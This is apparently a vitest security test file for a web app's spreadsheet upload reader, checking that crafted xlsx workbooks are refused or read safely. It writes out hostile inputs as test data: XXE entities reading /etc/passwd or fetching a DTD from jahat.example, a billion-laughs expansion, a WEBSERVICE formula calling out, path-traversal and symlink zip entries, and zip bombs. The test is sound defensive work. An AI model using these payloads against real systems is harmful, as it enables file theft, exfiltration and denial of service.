/** Workbooks that no office writes, at the reader that all lists go through: refused, or read as the texts that stand in them. */
import { Uint8ArrayReader, Uint8ArrayWriter, ZipReader, type FileEntry } from '@zip.js/zip.js'
import { writeXlsx } from 'hucre'
import { describe, expect, it } from 'vitest'
import { findTable } from '../../../site/src/features/roster/read-sheet.ts'
import { readFile } from '../../../site/src/lib/sheet/read-file.ts'
import { thrownFiles } from '../../fixtures/hostile/uploads.ts'
import { LINK, zipOf, type Entry } from '../../fixtures/hostile/zip.ts'

const SHEET = 'xl/worksheets/sheet1.xml'
const STRINGS = 'xl/sharedStrings.xml'
const ROWS = [
  ['Nama', 'Desa'],
  ['Siti Aminah', 'Besuk'],
]

type Parts = Map<string, string>
const utf8 = (bytes: Uint8Array) => new TextDecoder().decode(bytes)

/** A workbook of ours with some of its parts changed. */
async function changed(
  change: (parts: Parts) => void,
  ...more: readonly Entry[]
): Promise<Uint8Array> {
  const bytes = await writeXlsx({ sheets: [{ name: 'Daftar', rows: ROWS }] })
  const parts: Parts = new Map()
  const zip = new ZipReader(new Uint8ArrayReader(bytes), { useWebWorkers: false })
  for (const entry of await zip.getEntries()) {
    // Safe: only files of an archive have data.
    parts.set(entry.filename, utf8(await (entry as FileEntry).getData(new Uint8ArrayWriter())))
  }
  change(parts)
  const entries = Array.from(parts, ([name, content]) => ({ name, content }))
  return new Uint8Array(zipOf([...entries, ...more]))
}

const put = (name: string, from: string | RegExp, to: string) => (parts: Parts) => {
  const text = parts.get(name)
  if (text === undefined) throw new Error(`no ${name} in ${[...parts.keys()].join(', ')}`)
  const next = text.replace(from, () => to)
  if (next === text) throw new Error(`nothing to change in ${name}`)
  parts.set(name, next)
}
const declared = (doctype: string, use: string) => (parts: Parts) => {
  put(STRINGS, /(<\?xml[^>]*\?>)?/, `<?xml version="1.0"?>${doctype}`)(parts)
  put(STRINGS, 'Siti Aminah', use)(parts)
}
const LAUGHS = `<!DOCTYPE sst [<!ENTITY a "haha">${[...'bcdefghij']
  .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`)
  .join('')}]>`

const told = async (bytes: Uint8Array, name = 'daftar.xlsx') => {
  const reading = await readFile(name, bytes)
  return reading.ok ? reading.sheets.map(({ rows }) => rows) : reading.fault
}
/** Texts in the cells, all in one. */
const cellsOf = (got: Awaited<ReturnType<typeof told>>) =>
  typeof got === 'string' ? [] : got.flat(2)

describe('a workbook', () => {
  it('that is changed nowhere is read', async () => {
    expect(await told(await changed(() => undefined))).toEqual([ROWS])
  })

  it.each([
    [
      'a file of this computer',
      declared('<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;'),
    ],
    [
      'an address',
      declared('<!DOCTYPE sst [<!ENTITY % x SYSTEM "https://jahat.example/a.dtd"> %x;]>', 'Siti'),
    ],
    ['itself a thousand million times', declared(LAUGHS, '&j;')],
  ])('whose words stand for %s says nothing of it', async (_, change) => {
    const cells = cellsOf(await told(await changed(change)))
    expect(cells.join('')).not.toMatch(/root:|haha/)
    expect(cells.join('').length).toBeLessThan(200)
  })

  it('with a formula says what was last reckoned, and reckons nothing', async () => {
    const formula = `<c r="A3" t="str"><f>WEBSERVICE("https://jahat.example/")</f><v>Dewi</v></c>`
    const bytes = await changed(
      put(SHEET, '</sheetData>', `<row r="3">${formula}</row></sheetData>`),
    )
    expect(await told(bytes)).toEqual([[...ROWS, ['Dewi', '']]])
  })

  it.each<[string, Entry]>([
    [
      'links to another workbook',
      { name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' },
    ],
    ['macros', { name: 'xl/vbaProject.bin', content: 'x' }],
    ['a name that climbs out', { name: '../../etc/cron.d/x', content: 'x' }],
    ['a link of the disk', { name: 'xl/media/luar', content: '/etc/passwd', mode: LINK }],
    [
      'an archive in it',
      { name: 'xl/embeddings/a.zip', content: zipOf([{ name: 'a', content: 'a' }]) },
    ],
  ])('with %s gives its own cells and nothing else', async (_, entry) => {
    expect(await told(await changed(() => undefined, entry), 'daftar.xlsm')).toEqual([ROWS])
  })

  it('that unpacks to more than anybody has, or has no end to its parts, is refused before', async () => {
    const part = { content: 'a', told: 130_000_000 }
    const two = [
      { ...part, name: 'xl/a.bin' },
      { ...part, name: 'xl/b.bin' },
    ]
    const bytes = await changed(() => undefined, ...two)
    expect(await told(bytes)).toBe('UNPACKS_TOO_BIG')
    const sheet = await changed(() => undefined, {
      name: 'xl/a.bin',
      content: 'a',
      told: 0xffff_ffff,
    })
    expect(await told(sheet)).toBe('UNPACKS_TOO_BIG')
  })

  it('with more parts than anybody has is refused before', async () => {
    const parts = Array.from({ length: 5001 }, (_, at) => ({ name: `xl/${at}.bin`, content: 'x' }))
    expect(await told(await changed(() => undefined, ...parts.slice(0, 4900)))).toEqual([ROWS])
    expect(await told(await changed(() => undefined, ...parts))).toBe('UNPACKS_TOO_BIG')
  })

  it.each([0, 1, 3, 4, 30, 200])('cut off after %i bytes is refused', async (length) => {
    const bytes = (await changed(() => undefined)).slice(0, length)
    expect(['EMPTY', 'NOT_A_SHEET', 'DAMAGED']).toContain(await told(bytes))
  })
})

it('takes none of the files that are thrown at other doors for a list of cadres, and breaks on none', async () => {
  const taken: string[] = []
  for (const { what, name, bytes } of await thrownFiles()) {
    for (const called of [name, 'daftar.csv', 'daftar.xlsx']) {
      const reading = await readFile(called, bytes)
      const sheets = reading.ok ? reading.sheets : []
      if (sheets.some((sheet) => findTable(sheet) !== null)) taken.push(`${what} as ${called}`)
    }
  }
  expect(taken).toEqual([])
})
